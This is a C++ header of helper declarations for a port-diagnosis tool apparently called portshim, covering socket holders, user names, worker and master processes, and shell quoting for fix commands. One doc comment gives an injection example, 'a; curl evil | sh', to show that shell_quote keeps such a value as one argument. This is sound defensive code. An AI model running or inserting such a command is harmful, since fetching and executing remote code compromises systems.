// Helpers shared by the inet rules (causes.cpp) and the AF_UNIX rules
// (causes_unix.cpp), so that both name holders, users and commands alike.
#pragma once

#include "identity.hpp"
#include "types.hpp"

#include <cstdint>
#include <string>
#include <string_view>
#include <vector>

namespace portshim::detail {

/** The processes holding socket `inode`, in /proc order; none for inode 0. */
std::vector<const Holder*> holders_of(const Observation& obs, std::uint64_t inode);

/**
 * The holder to name: a process whose parent does not hold the socket too
 * (the master of a prefork server, not a worker), the oldest of those.
 */
const Holder* principal(const std::vector<const Holder*>& hs);

/**
 * The process to stop for holder `who`: the topmost of its parents (holders or
 * Observation::masters) that run the same program, each the parent of the one
 * below — a master that forked `who` as a worker (haproxy -W, whose master
 * holds no listener) — else `who` itself. A parent counts only with evidence
 * (the worker kept its command line, or the registry names it the opener of
 * `who`'s socket), never pid 1 or this process, and, unless
 * `stop_at_own_parent` is false, never this process's own parent.
 */
const Holder& service_master(const Observation& obs, const Holder& who,
                             bool stop_at_own_parent = true);

/**
 * When `master` is not `who` (service_master): the why line saying that pid
 * `who` is a worker and its master is the process to stop.
 */
void add_worker_reason(const Holder& who, const Holder& master,
                       const std::vector<const Holder*>& hs, Verdict& v);

/** Appends `first`, then every other holder of `hs`, to the verdict. */
void add_holders(const std::vector<const Holder*>& hs, const Holder* first, Verdict& v);

/** The holder's executable, else its comm, else "unknown program". */
std::string program_of(const Holder& h);

/** "started 5 min ago", or empty when the start or the clock is unknown. */
std::string age_of(const Holder& h, const HostFacts& host);

/** argv joined by blanks, cut after 200 characters with an ellipsis. */
std::string quote_args(const std::vector<std::string>& argv);

/** Whether `h` runs the program this process runs (identity.hpp); unknown when this one is not known. */
Sameness compare_with_self(const Holder& h, const SelfInfo& self);

/**
 * The why line of a previous instance, so that the claim can be checked: "it runs
 * the same program (-m http.server): python3 -m http.server 8000".
 */
std::string same_program_reason(const Holder& h);

/**
 * The why line of a holder that is not established as this program (`s` is
 * different or unknown): "a different program holds the port: CMDLINE", "the same
 * runtime (python3.11) runs another program there: b.py, not a.py", or why it
 * cannot be told. `what`: "port" or "address".
 */
std::string program_difference(const Holder& h, const SelfInfo& self, Sameness s, std::string_view what);

/** "alice (uid 1000)", "uid 1000", or "an unknown user" for a negative uid. */
std::string user_of(const Observation& obs, std::int64_t uid);

/**
 * Whose view the report shows: the real uid under secure execution (a setuid
 * program reports to the user who ran it, rule 12), else the effective uid.
 */
std::uint32_t viewer_uid(const Observation& obs);

/**
 * Under secure execution with other users' holders left out: the why line
 * that says so; empty otherwise.
 */
std::string withheld_reason(const Observation& obs);

/** "sudo " unless the report's viewer is root: the prefix of a confirm command. */
std::string sudo(const Observation& obs);

/**
 * `s` as one word of a POSIX shell command line: as it is when it holds only
 * characters no shell treats specially, else in single quotes, each ' as '\''.
 * Every outside value (a unit or cgroup name, a path) in a fix or confirm
 * command goes through it: "a; curl evil | sh" stays one argument.
 */
std::string shell_quote(std::string_view s);

} // namespace portshim::detail
